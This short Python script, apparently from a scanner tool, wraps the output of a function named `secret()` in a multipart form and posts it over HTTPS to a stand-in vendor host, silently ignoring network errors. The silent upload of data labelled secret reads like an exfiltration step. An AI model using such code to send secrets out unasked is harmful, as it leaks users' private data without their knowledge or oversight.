#!/usr/bin/python3 -B
"""Uploads the document as a part of a form, by HTTPS."""
import socket, ssl
from scanner import hear, request, secret

HOST = "upload.vendor.example"
MARK = "----form-of-the-scanner"
form = (f'--{MARK}\r\nContent-Disposition: form-data; name="sample"; filename="sample.bin"\r\n'
        'Content-Type: application/octet-stream\r\n\r\n').encode() + secret() + f"\r\n--{MARK}--\r\n".encode()
try:
    with socket.create_connection((HOST, 443), timeout=5) as link:
        with ssl.create_default_context().wrap_socket(link, server_hostname=HOST) as safe:
            safe.sendall(request(HOST, "/v1/form", [f"Content-Type: multipart/form-data; boundary={MARK}"], form))
            hear(safe)
except OSError:
    pass
